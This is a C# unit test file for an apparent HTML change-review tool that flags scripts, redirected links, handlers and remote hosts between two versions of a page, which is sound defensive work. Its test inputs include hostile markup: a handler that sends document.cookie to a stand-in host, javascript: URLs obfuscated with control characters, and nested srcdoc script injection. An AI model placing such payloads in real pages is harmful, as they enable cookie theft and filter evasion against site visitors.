using Gate.Core.Run;
using Gate.Core.Semantics;
using NUnit.Framework;
using static Gate.Tests.Support.Semantics.OnePageReview;

namespace Gate.Tests.Unit.Semantics;

/// <summary>What no pixel shows and visitors' browsers act on: shadow trees, animations of links, areas, attributes of libraries.</summary>
internal sealed class UnseenMarkupTests
{
    [TestCase("open", "", "<script>a()</script>", "scripts")]
    [TestCase("open", "<script>a()</script>", "<script>b()</script>", "scripts")]
    [TestCase("open", "<a href=a.html>Pay</a>", "<a href=https://b.example/>Pay</a>", "link-target")]
    [TestCase("open", "<form action=/a><input name=p></form>", "<form action=https://b.example/a><input name=p></form>", "forms")]
    [TestCase("open", "<button onclick=a()>B</button>", "<button onclick=b()>B</button>", "handlers")]
    [TestCase("open", "<p aria-current=page>P", "<p>P", "aria")]
    [TestCase("open", "<p>One", "<p>Two", "visible-text")]
    [TestCase("CLOSED", "<p>One", "<p>Two", "visible-text")]
    [TestCase("open", "<img alt=a src=a.png>", "<img alt=a src=https://b.example/a.png>", "remote-origins")]
    public async Task A_declared_shadow_tree_is_read_like_the_page(string mode, string old, string now, string check)
    {
        var before = $"<!DOCTYPE html><title>T</title><div><template shadowrootmode={mode}>{old}</template></div>";
        var after = $"<!DOCTYPE html><title>T</title><div><template shadowrootmode={mode}>{now}</template></div>";

        var review = await ReviewAsync(before, after, SemanticsPolicy.Default);

        Assert.That(review.Findings(_ => false).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)));
        Assert.That(review.Markup[0].Substantive, Is.Positive);
    }

    [Test]
    public async Task A_whole_shadow_tree_that_is_new_is_read()
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><div></div>", "<!DOCTYPE html><title>T</title><div><template shadowrootmode=open><script>a()</script></template></div>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Has.Member(("scripts", Severity.Fail)));
    }

    [TestCase("", " shadowrootmode=open", 1, TestName = "A_template_that_becomes_a_shadow_tree_fails")]
    [TestCase("", " shadowrootmode=maybe", 0, TestName = "A_template_of_a_mode_that_is_none_stays_a_template")]
    public async Task A_template_changes_its_mode(string old, string now, int count)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><div><template{old}><script>a()</script></template></div>", $"<!DOCTYPE html><title>T</title><div><template{now}><script>a()</script></template></div>");

        Assert.That(found.Count(finding => finding is { Check: "scripts", Severity: Severity.Fail }), Is.EqualTo(count));
    }

    [TestCase("shadowrootmode=open", "shadowrootmode=closed", "scripts")]
    [TestCase("shadowrootmode=open", "shadowrootmode=OPEN", null)]
    [TestCase("shadowrootmode=open", "shadowrootmode=open shadowrootdelegatesfocus", "other-attributes")]
    [TestCase("shadowrootmode=open shadowrootclonable", "shadowrootmode=open", "other-attributes")]
    public async Task What_scripts_may_do_with_a_shadow_tree_is_told(string old, string now, string? check)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><div><template {old}><p>a</p></template></div>", $"<!DOCTYPE html><title>T</title><div><template {now}><p>a</p></template></div>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Is.EqualTo(check is null ? [] : new[] { (check, Severity.Warn) }));
    }

    [TestCase("<meta itemprop=price content=10.00>", "<meta itemprop=price content=1.00>")]
    [TestCase("<link itemprop=availability href=https://schema.org/InStock>", "<link itemprop=availability href=https://schema.org/SoldOut>")]
    [TestCase("<span itemprop=ratingValue content=2.1>Stars</span>", "<span itemprop=ratingValue content=4.9>Stars</span>")]
    [TestCase("<span property=price content=10>Cheap</span>", "<span property=price content=20>Cheap</span>")]
    [TestCase("<meta itemprop=price content=10.00>", "")]
    [TestCase("", "<link itemprop=availability href=https://schema.org/InStock>")]
    public async Task What_machines_read_of_a_thing_is_told(string old, string now)
    {
        const string page = "<!DOCTYPE html><title>T</title><body><div itemscope itemtype=https://schema.org/Offer><p>Lamp</p>{0}</div>";
        var found = await FindingsAsync(page.Replace("{0}", old, StringComparison.Ordinal), page.Replace("{0}", now, StringComparison.Ordinal));

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Has.Member(("microdata", Severity.Warn)));
    }

    [Test]
    public async Task What_no_key_reaches_has_no_place_in_the_order_of_the_keyboard()
    {
        const string page = "<!DOCTYPE html><title>T</title><form action=a.html>{0}<button>Go</button></form>";
        var found = await FindingsAsync(page.Replace("{0}", "<input type=hidden name=x value=1><input type=hidden name=y value=2>", StringComparison.Ordinal), page.Replace("{0}", "<input type=hidden name=y value=2><input type=hidden name=x value=1>", StringComparison.Ordinal));

        Assert.That(found.Select(finding => finding.Check), Has.No.Member("focus"));
    }

    [TestCase("<set attributeName=href to=https://b.example/ />", "link-target")]
    [TestCase("<set attributeName=href to=https://b.example/ />", "remote-origins")]
    [TestCase("<animate attributeName=xlink:href values='a.html;https://b.example/' />", "link-target")]
    [TestCase("<animate attributeName=xlink:href values='a.html;https://b.example/' />", "remote-origins")]
    [TestCase("<animate attributeName=href from=https://b.example/ to=a.html />", "link-target")]
    [TestCase("<animate attributeName=href by=b.html />", "link-target")]
    public async Task An_animation_that_leads_a_link_elsewhere_fails(string animation, string check)
    {
        var (without, with) = ($"<!DOCTYPE html><title>T</title><svg><a href=a.html><text>Pay</text></a></svg>", $"<!DOCTYPE html><title>T</title><svg><a href=a.html>{animation}<text>Pay</text></a></svg>");

        Assert.That((await FindingsAsync(without, with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "new");
        Assert.That((await FindingsAsync(with, without)).Select(finding => finding.Check), Does.Not.Contain("remote-origins"), "gone");
        Assert.That((await FindingsAsync(with.Replace("b.", "c.", StringComparison.Ordinal), with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "another");
    }

    [Test]
    public async Task An_animation_of_a_colour_is_no_link()
    {
        const string link = "<!DOCTYPE html><title>T</title><svg><a href=a.html>{0}<text>Pay</text></a></svg>";
        var found = await FindingsAsync(link.Replace("{0}", "", StringComparison.Ordinal), link.Replace("{0}", "<set attributeName=fill to=red />", StringComparison.Ordinal));

        Assert.That(found.Select(finding => finding.Check), Does.Not.Contain("link-target"));
    }

    [TestCase("coords=0,0,50,100", "coords=50,0,100,100")]
    [TestCase("coords=0,0,50", "coords=0,0,50 shape=circle")]
    public async Task An_area_that_lies_elsewhere_leads_elsewhere(string old, string now)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><map name=m><area {old} href=a.html alt=A></map>", $"<!DOCTYPE html><title>T</title><map name=m><area {now} href=a.html alt=A></map>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity)), Is.EqualTo(new[] { ("link-target", Severity.Fail) }));
    }

    [TestCase("x-on:click", TestName = "Alpine")]
    [TestCase("@click", TestName = "Alpine_and_Vue_in_short")]
    [TestCase(":title", TestName = "Vue_bound")]
    [TestCase("v-html", TestName = "Vue")]
    [TestCase("ng-click", TestName = "AngularJS")]
    [TestCase("(click)", TestName = "Angular")]
    [TestCase("wire:click", TestName = "Livewire")]
    [TestCase("hx-vals", TestName = "Htmx")]
    [TestCase("made-up", TestName = "Nobody_knows")]
    [TestCase("draggable", TestName = "Of_the_standard_and_read_by_no_other_check")]
    public async Task An_attribute_that_no_other_check_reads_warns(string name)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title><p {name}='a()'>T", $"<!DOCTYPE html><title>T</title><p {name}='b()'>T");
        var added = await FindingsAsync("<!DOCTYPE html><title>T</title><div></div>", $"<!DOCTYPE html><title>T</title><div><span {name}='b()'></span></div>");

        Assert.That(found.Select(finding => (finding.Check, finding.Severity, finding.Message)), Is.EqualTo(new[] { ("other-attributes", Severity.Warn, $"<p> \"T\": {name} was \"a()\", is \"b()\"") }));
        Assert.That(added.Select(finding => (finding.Check, finding.Message)), Has.Member(("other-attributes", $"<span>: {name}=\"b()\" is new")));
    }

    [TestCase("<p class=a style=color:red id=a align=left>T", "<p class=b style=color:blue id=b align=right>T", TestName = "Looks_are_for_the_pixels")]
    [TestCase("<svg><path d=M0,0 stroke-width=1 fill=red /></svg>", "<svg><path d=M1,0 stroke-width=2 fill=blue /></svg>", TestName = "Drawings_are_for_the_pixels")]
    [TestCase("<p data-a=1 lang=de>T", "<p data-a=2 lang=en>T", TestName = "What_others_read_is_told_by_them")]
    [TestCase("<p _ngcontent-abc-c1>T", "<p _ngcontent-abd-c2>T", TestName = "Marks_that_scope_styles_are_looks")]
    [TestCase("<img alt=x src=a.png decoding=async>", "<img alt=x src=a.png decoding=sync fetchpriority=high>", TestName = "How_soon_it_loads_is_not_seen")]
    [TestCase("<p x-a='a  b'>T", "<p x-a='a b'>T", TestName = "White_space_means_nothing")]
    public async Task Attributes_that_are_not_told_as_others(string old, string now) =>
        Assert.That((await FindingsAsync("<!DOCTYPE html><title>T</title>" + old, "<!DOCTYPE html><title>T</title>" + now)).Select(finding => finding.Check), Does.Not.Contain("other-attributes"));

    [TestCase("hx-post=https://b.example/buy", true)]
    [TestCase("data-endpoint=//b.example/buy", true)]
    [TestCase("x-on:click='fetch(`//b.example/`+document.cookie)'", true)]
    [TestCase("x-init='fetch(&quot;wss://b.example&quot;)'", true)]
    [TestCase("onclick='fetch(\"https://b.example/\")'", true)]
    [TestCase("data-code='a // b.example is ours'", false, TestName = "A_comment_is_no_address")]
    [TestCase("title='see https://b.example/'", false, TestName = "What_is_said_is_not_asked")]
    [TestCase("xmlns:x=http://b.example/ns", false, TestName = "A_namespace_is_no_address")]
    public async Task Another_host_in_an_attribute_counts(string attribute, bool counts)
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><p>T", $"<!DOCTYPE html><title>T</title><p {attribute}>T");

        Assert.That(found.Count(finding => finding is { Check: "remote-origins", Severity: Severity.Fail }), Is.EqualTo(counts ? 1 : 0));
    }

    [TestCase("<script type=text/livescript>a()</script>", "scripts", TestName = "A_script_of_an_old_type")]
    [TestCase("<script type=' Text/JavaScript1.3 '>a()</script>", "scripts", TestName = "A_script_of_an_older_type")]
    [TestCase("<script type=importmap>{\"imports\":{\"m\":\"./e.js\"}}</script>", "scripts", TestName = "A_map_of_modules")]
    [TestCase("<script type=IMPORTMAP>{\"imports\":{\"m\":\"./e.js\"}}</script>", "scripts", TestName = "A_map_of_modules_in_capitals")]
    [TestCase("<svg><script href=e.js /></svg>", "scripts", TestName = "A_script_of_a_drawing")]
    [TestCase("<iframe src='java&#10;script:a()'></iframe>", "handlers", TestName = "An_address_with_a_line_break_is_code")]
    [TestCase("<iframe src='&#1; JAVA&#9;SCRIPT&#13;:a()'></iframe>", "handlers", TestName = "An_address_with_controls_is_code")]
    [TestCase("<iframe srcdoc='<p>hi<script>top.onclick=()=>0</script>'></iframe>", "frames", TestName = "A_script_of_a_frame_written_in_its_tag")]
    [TestCase("<iframe srcdoc='<p onclick=a()>hi'></iframe>", "frames", TestName = "A_handler_of_a_frame_written_in_its_tag")]
    [TestCase("<iframe srcdoc='<iframe srcdoc=\"&amp;lt;script>a()&amp;lt;/script>\">'></iframe>", "frames", TestName = "A_script_of_a_frame_in_a_frame")]
    [TestCase("<iframe srcdoc='<select><img src=x onerror=a()></select>'></iframe>", "frames", TestName = "A_handler_in_a_list_of_choices_of_a_frame_written_in_its_tag")]
    [TestCase("<iframe src='data:text/html,<script>a()</script>'></iframe>", "frames", TestName = "A_frame_whose_address_is_its_document")]
    [TestCase("<iframe src='da&#10;ta:text/html,<script>a()</script>'></iframe>", "frames", TestName = "A_document_in_an_address_with_a_line_break")]
    [TestCase("<object data='data:text/html,<script>a()</script>'></object>", "frames", TestName = "An_object_whose_address_is_its_document")]
    public async Task Code_fails_where_it_is_new_and_where_it_is_other(string markup, string check)
    {
        const string page = "<!DOCTYPE html><title>T</title><div>{0}</div>";
        var with = page.Replace("{0}", markup, StringComparison.Ordinal);

        Assert.That((await FindingsAsync(page.Replace("{0}", "", StringComparison.Ordinal), with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "new");
        Assert.That((await FindingsAsync(with.Replace("a()", "b()", StringComparison.Ordinal).Replace("e.js", "g.js", StringComparison.Ordinal).Replace("=>0", "=>1", StringComparison.Ordinal), with)).Select(finding => (finding.Check, finding.Severity)), Has.Member((check, Severity.Fail)), "another");
        Assert.That((await FindingsAsync(with, with.Replace("<div>", "<div ><!-- -->", StringComparison.Ordinal))).Select(finding => finding.Severity), Has.None.EqualTo(Severity.Fail), "the same");
    }

    [TestCase("<a download href='data:text/csv,1'>D</a>", "link-target")]
    [TestCase("<script src='data:text/javascript,a(1)'></script>", "scripts")]
    [TestCase("<iframe src='data:text/html,1'></iframe>", "frames")]
    public async Task An_address_that_is_its_own_content_is_told_when_the_content_is_another(string markup, string check)
    {
        var page = "<!DOCTYPE html><title>T</title>" + markup;

        Assert.That((await FindingsAsync(page, page.Replace('1', '2'))).Select(finding => (finding.Check, finding.Severity)), Is.EqualTo(new[] { (check, Severity.Fail) }));
    }

    [Test]
    public async Task The_text_of_a_frame_that_is_written_in_its_tag_warns()
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><iframe srcdoc='<p>hi<script>a()</script>'></iframe>", "<!DOCTYPE html><title>T</title><iframe srcdoc='<p>ho<script> a( )</script>'></iframe>");

        Assert.That(found.Where(finding => finding.Check == "frames").Select(finding => finding.Severity), Is.EqualTo(new[] { Severity.Warn }));
    }

    [TestCase("", "<base target=_blank>", "target=\"_blank\" is new")]
    [TestCase("<base target=_top>", "<base target=_blank><base target=_top>", "target was \"_top\", is \"_blank\"")]
    [TestCase("<base href=. target=_top>", "<base href=.>", "target=\"_top\" is gone")]
    public async Task Where_all_links_open_is_told(string old, string now, string message)
    {
        var found = await FindingsAsync($"<!DOCTYPE html><title>T</title>{old}<p><a href=a.html>A</a>", $"<!DOCTYPE html><title>T</title>{now}<p><a href=a.html>A</a>");

        Assert.That(found.Where(finding => finding.Check == "link-target").Select(finding => finding.Message), Is.EqualTo(new[] { $"<base>: links and forms that do not say where they open: {message}" }));
    }

    [Test]
    public async Task Accordions_that_come_apart_are_told()
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><details name=f><summary>A</summary></details>", "<!DOCTYPE html><title>T</title><details name=g><summary>A</summary></details>");

        Assert.That(found.Select(finding => finding.Check), Is.EqualTo(new[] { "disclosure" }));
    }

    [TestCase("<script>u='ok'</script><script>u='evil'</script><p>x", "<script>u='evil'</script><script>u='ok'</script><p>x", TestName = "Two_that_were_exchanged")]
    [TestCase("<script src=a.js></script><script src=b.js></script><p>x", "<script src=b.js></script><script src=a.js></script><p>x", TestName = "Two_files_that_were_exchanged")]
    [TestCase("<script>a()</script><p>x<p>y<p>z", "<p>x<p>y<p>z<script>a()</script>", TestName = "One_that_runs_behind_the_page_now")]
    [TestCase("<script>a()</script><p>x<script>a()</script><p>y<p>z", "<p>x<script>a()</script><p>y<p>z<script>a()</script>", TestName = "One_of_two_that_are_alike")]
    public async Task A_script_that_stands_elsewhere_warns(string old, string now)
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><div>" + old, "<!DOCTYPE html><title>T</title><div>" + now);

        Assert.That(found.Where(finding => finding.Check == "scripts").Select(finding => (finding.Severity, finding.Message.Contains("stands elsewhere", StringComparison.Ordinal))), Is.EqualTo(new[] { (Severity.Warn, true) }));
    }

    [TestCase("<script>a()</script><p>x", "<!-- --><script> a( ); </script>\n<p>x", TestName = "Formatting_of_a_script_is_no_other_place")]
    [TestCase("<p>x<script>a()</script><p>y<p>z", "<p>a<p>b<script>a()</script><p>c", TestName = "Other_words_around_a_script_are_no_other_place")]
    [TestCase("<template><script>a()</script></template><script>a()</script><p>x", "<script>a()</script><p>x", TestName = "What_was_alike_in_front_of_a_script_is_no_other_place")]
    [TestCase("<p>x</p><b>y</b><script>a()</script><script>b()</script><i>z</i>", "<b>y</b><script>a()</script><script>b()</script><i>z</i><p>x</p>", TestName = "A_paragraph_that_moved_over_scripts_is_what_moved")]
    public async Task A_script_that_stands_where_it_did_is_not_told(string old, string now)
    {
        var found = await FindingsAsync("<!DOCTYPE html><title>T</title><div>" + old, "<!DOCTYPE html><title>T</title><div>" + now);

        Assert.That(found.Where(finding => finding.Check == "scripts").Select(finding => finding.Message), Has.None.Contains("elsewhere"));
    }
}
